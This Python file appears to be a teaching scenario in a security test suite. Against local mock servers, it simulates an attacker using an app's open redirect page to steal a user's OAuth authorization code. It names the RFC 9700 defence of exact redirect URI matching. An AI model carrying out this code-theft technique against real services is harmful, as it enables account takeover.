"""The code goes to the app itself, but to a page that redirects every browser elsewhere."""

from urllib.parse import quote

from scenarios.attacks.redirects.link import FOLLOWED, app_in_browsers, followed, link_to, notes_for
from scenarios.attacks.stage import Stage
from scenarios.attacks.story import Defence, Story
from scenarios.browser.pages import Leg
from scenarios.browser.user_agent import follow
from scenarios.impostors.answers import Answer, redirect
from scenarios.impostors.loopback_server import LoopbackServer, Received
from tracing.catalogue import AUTHORIZATION_SERVER


class Newspaper(LoopbackServer):
    """An app with a redirect URI, and with a page that counts clicks on links."""

    def __init__(self) -> None:
        super().__init__(0, {"callback": "/callback", "click": "/click"})

    def answer_callback(self, _: Received) -> Answer:
        """Return the response of the redirect URI."""
        return Answer(document={"signed_in": True})

    def answer_click(self, request: Received) -> Answer:
        """Redirect to the URL in the parameter `to`, and pass on all other parameters."""
        others = {name: value for name, value in request.parameters.items() if name != "to"}
        return redirect(request.parameter("to"), **others)


class Diary(LoopbackServer):
    """The attacker's site, which logs the requests it receives."""

    def __init__(self) -> None:
        super().__init__(0, {"page": "/"})

    def answer_page(self, _: Received) -> Answer:
        """Return an empty page."""
        return Answer(204)


def _play(stage: Stage) -> str | None:
    with Newspaper() as newspaper, Diary() as diary:
        return _played(stage, newspaper, diary)


def _played(stage: Stage, newspaper: Newspaper, diary: Diary) -> str | None:
    stage.tell(
        "A newspaper registers /callback on its host as its redirect URI. Its newsletter counts "
        "clicks: each link leads to /click?to=…, which redirects to the address in it, and passes "
        "on all other parameters, so that no campaign tag is lost."
    )
    app = app_in_browsers(stage, "A newspaper", f"{newspaper.url}/callback")

    stage.tell(
        "A careless server compares scheme, host and port, and takes any path of the app. So "
        "Mallory names the page that redirects, with his own site in it, and sends Alice the link."
    )
    clicking = f"{newspaper.url}/click?to={quote(diary.url, safe='')}"
    link = link_to(app, clicking)

    stage.tell(f"{FOLLOWED} The code is sent to the newspaper, and nowhere else.")
    arrived = followed(stage, link)
    if arrived is None:
        return None

    stage.tell("The newspaper does what it does with each click: it passes the code on to Mallory.")
    stage.victim.goes(follow(Leg("GET", arrived)))
    code = diary.received("page")[-1].parameter("code")

    stage.tell("He reads the log of his own site, and exchanges the code.")
    notes = notes_for(stage, app, code, clicking)
    return notes and f"Alice's code, passed on by the app itself. It opens {notes}"


STORY = Story(
    slug="redirect-open-redirector",
    title="A page of the app that passes the code on",
    attacker="Mallory, who has read the links in a newsletter",
    victim="Alice, who reads a newspaper",
    clause="RFC 9700 §4.1.1, §4.11.1",
    idea="The server may be right to trust the host of the app. But an app has many pages, and one "
    "of them redirects anyone to anywhere. It takes the code along.",
    has="The client_id of the newspaper, the address of its redirecting page, and a site of his "
    "own.",
    lesson="One page of the app is registered to receive codes, and the server accepts no other, "
    "however well the host is known. The newspaper should also redirect to its own links only.",
    stopped_by=(Defence(AUTHORIZATION_SERVER, "redirect_uri_is_registered"),),
    play=_play,
)
